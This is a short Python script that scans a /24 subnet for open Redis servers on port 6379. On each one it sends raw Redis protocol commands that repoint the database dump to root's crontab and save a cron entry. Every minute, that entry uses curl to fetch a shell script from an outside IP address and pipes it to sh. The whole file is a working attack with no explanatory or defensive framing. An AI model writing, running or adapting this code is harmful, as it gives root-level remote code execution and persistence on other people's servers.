import ipaddress
import socket

PAYLOAD = "\n\n*/1 * * * * curl -fsSL http://203.0.113.140/r.sh | sh\n\n"

def cmd(*parts):
    out = "*%d\r\n" % len(parts)
    for p in parts:
        out += "$%d\r\n%s\r\n" % (len(p), p)
    return out.encode()

for ip in ipaddress.ip_network("10.0.0.0/24").hosts():
    try:
        s = socket.create_connection((str(ip), 6379), timeout=0.5)
        s.send(cmd("CONFIG", "SET", "dir", "/var/spool/cron/crontabs"))
        s.send(cmd("CONFIG", "SET", "dbfilename", "root"))
        s.send(cmd("SET", "backup1", PAYLOAD))
        s.send(cmd("SAVE"))
        s.close()
    except OSError:
        continue
